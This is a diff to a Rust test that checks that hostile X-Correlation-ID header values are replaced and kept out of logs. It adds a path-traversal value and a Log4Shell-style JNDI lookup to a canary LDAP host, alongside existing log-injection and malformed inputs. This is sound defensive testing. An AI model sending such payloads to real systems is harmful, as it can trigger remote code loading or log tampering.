@@ -275,17 +275,20 @@ async fn the_host_is_no_secret_and_no_crash() {
     assert_eq!(old.status, 200);
 }
 
-/// Two, or one that is no id, are replaced and seen nowhere.
+/// F3 and F4: two, or one that is no id, are replaced and seen nowhere.
 #[tokio::test]
 async fn a_correlation_id_that_is_none_is_replaced_and_never_logged() {
     let service = ServiceProcess::on_sqlite(&[]).await;
     let long = format!("X-Correlation-ID: canario{}\r\n", "a".repeat(122));
-    let headers: [&[u8]; 6] = [
+    let headers: [&[u8]; 9] = [
         b"X-Correlation-ID: canario-1\r\nX-Correlation-ID: canario-2\r\n",
         b"X-Correlation-ID: canario\xff\r\n",
         b"X-Correlation-ID: canario a=1 level=ERROR\r\n",
         b"X-Correlation-ID: {\"canario\":1}\r\n",
         b"X-Correlation-ID: \xc3\xa9canario\r\n",
+        b"X-Correlation-ID: ../../canario\r\n",
+        b"X-Correlation-ID: ${jndi:ldap://canario.cl/a}\r\n",
+        b"X-Correlation-ID:\r\n",
         long.as_bytes(),
     ];
     for header in headers {
